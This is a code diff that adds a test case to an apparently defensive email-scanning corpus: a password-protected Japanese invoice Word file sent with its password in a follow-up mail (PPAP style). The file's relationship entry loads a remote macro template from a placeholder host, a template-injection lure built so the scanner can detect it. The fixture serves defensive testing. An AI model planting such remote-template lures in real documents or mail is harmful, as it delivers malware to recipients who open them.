@@ -797,6 +797,36 @@ pub fn corpus() -> Vec<Case> {
         false,
     );
 
+    // PPAP with a Word document encrypted with a password (not a zip): its settings load a
+    // remote template, which only its password shows.
+    let lure = kizuki_files::synth::docx(
+        &kizuki_files::synth::para("請求書をご確認ください。"),
+        "",
+        Some(
+            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/>"#,
+        ),
+        &[],
+    );
+    let mut a = Spec::new("佐藤", "sato@kobe-shoji.example", "請求書送付の件");
+    a.client = ("203.0.113.81".into(), "mail.kobe-shoji.example".into());
+    a.message_id = "ppap.3@kobe-shoji.example".into();
+    a.text = "請求書を送付いたします。\nパスワードは別途お送りします。\n".into();
+    a.attachments.push(Attachment {
+        name: "請求書.docx".into(),
+        ctype: "application/vnd.openxmlformats-officedocument.wordprocessingml.document".into(),
+        data: kizuki_files::synth::office_encrypted(&lure, PPAP_PASSWORD, 16),
+    });
+    let mut b = Spec::new("佐藤", "sato@kobe-shoji.example", "パスワードのお知らせ");
+    b.client = a.client.clone();
+    b.message_id = "ppap.4@kobe-shoji.example".into();
+    b.date = "Tue, 15 Mar 2016 10:14:00 +0900".into();
+    b.text = format!("請求書のパスワード：{PPAP_PASSWORD}\n");
+    push(
+        "ppap-office.mbox",
+        mbox_of(&[render(&a, Eol::Lf), render(&b, Eol::Lf)]),
+        false,
+    );
+
     // Ordinary business mail: partners (signed), other firms, ISO-2022-JP and UTF-8, LF and CRLF.
     for i in 0..12 {
         let domain = [PARTNER, SHOJI, KIKAI][i % 3];
